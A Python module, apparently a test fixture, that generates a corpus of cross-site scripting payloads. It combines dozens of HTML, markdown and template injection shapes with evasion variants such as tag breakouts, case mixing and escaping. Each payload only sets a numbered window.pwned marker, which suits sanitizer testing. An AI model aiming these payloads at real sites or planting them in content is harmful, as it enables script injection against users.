"""Strings that run a script wherever they are taken for markup, code or an address.

Each, when it runs, sets `window.pwned`; the number in it tells which one it was.
"""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from typing import Final

__all__ = ["PAYLOADS"]

_RUN: Final = "window.pwned=@"

_SHAPES: Final = (
    *("<script>!</script>", "<img src=x onerror=!>", "<svg onload=!>", "<svg/onload=!//"),
    *("<details open ontoggle=!>", "<input autofocus onfocus=!>", "<video><source onerror=!>"),
    *('<iframe srcdoc="<script>parent.!</script>">', "<iframe src=javascript:parent.!>"),
    *('<a href="javascript:!" style="position:fixed;inset:0">x</a>', "<body onload=!>"),
    *('<object data="javascript:!">', "<embed src=javascript:!>", "<base href=javascript:!//>"),
    *("<math><mtext></mtext><img src onerror=!></math>", "<select autofocus onfocus=!>"),
    *('<meta http-equiv=refresh content="0;javascript:!">', "<marquee onstart=!>"),
    *("<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=!>x</b>",),
    *("![x](x\"onerror='!')", "[x](javascript:!)", "<javascript:!>", "[x]: javascript:! 'x'"),
    *("';!;'", '";!;"', "`;!;`", "${!}", "{{constructor.constructor('!')()}}", "</script>!"),
)

_DRESSES: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    lambda text: '">' + text,
    lambda text: "'-->]]>" + text,
    lambda text: "</textarea></title></style></noscript>" + text,
    lambda text: text.replace("<", "<\u2028").replace("=", " = "),
    lambda text: escape(text),
    lambda text: text.replace("on", "oN").replace("script", "ScRiPt"),
)

PAYLOADS: Final = tuple(
    dress(shape.replace("!", _RUN.replace("@", str(number * 10 + at))))
    for number, shape in enumerate(_SHAPES)
    for at, dress in enumerate(_DRESSES)
)
